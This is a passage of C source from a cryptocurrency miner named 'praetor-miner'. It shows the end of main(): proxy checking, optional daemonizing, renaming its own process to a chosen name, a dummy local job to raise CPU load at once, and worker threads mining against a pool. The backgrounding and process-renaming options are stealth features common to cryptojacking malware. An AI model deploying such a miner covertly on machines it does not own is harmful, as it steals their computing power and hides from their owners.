        fprintf(stderr, "praetor-miner: bad proxy %s (want host:port)\n", proxy);
        return 2;
    }

    signal(SIGPIPE, SIG_IGN);
    if (opt.background) daemonize();
    if (opt.name) rename_self(argc, argv, opt.name);
    started_at = now_s();

    /* Until the pool answers, hash a local job so the CPU signal starts at once, as a miner
     * that keeps working through an outage does; its shares are dropped. */
    struct job local;
    memset(&local, 0, sizeof local);
    strcpy(local.id, "local");
    for (int i = 0; i < 32; i++) local.prevhash[i] = (uint8_t)(i * 37 + 11);
    local.extranonce2_size = 4;
    local.difficulty = 1.0;
    memcpy(local.version, "\x20\0\0\0", 4);
    memcpy(local.nbits, "\x1d\0\xff\xff", 4);
    diff_to_target(1.0, local.target);
    set_job(&local);

    pthread_t tids[MAX_THREADS];
    for (int i = 0; i < opt.threads; i++)
        if (pthread_create(&tids[i], NULL, worker, (void *)(uintptr_t)i) != 0) {
            say("cannot start thread %d", i);
            opt.threads = i;
            break;
        }
    say("mining %s:%d as %s, %d thread(s), max cpu %d%%, for %ds", opt.host, opt.port, opt.user, opt.threads,
        opt.max_cpu, opt.run_seconds);
    network_loop();
    atomic_store(&stopping, 1);
    for (int i = 0; i < opt.threads; i++) pthread_join(tids[i], NULL);
    double elapsed = now_s() - started_at;
    unsigned long long h = atomic_load(&hashes_done);
    say("done: %llu hashes in %.1f s (%.0f H/s), shares %u accepted, %u rejected, %u found offline",
        h, elapsed, (double)h / elapsed, atomic_load(&shares_accepted), atomic_load(&shares_rejected),
        atomic_load(&shares_dropped));
    return 0;

bad:
    usage(stderr);
    return 2;
}
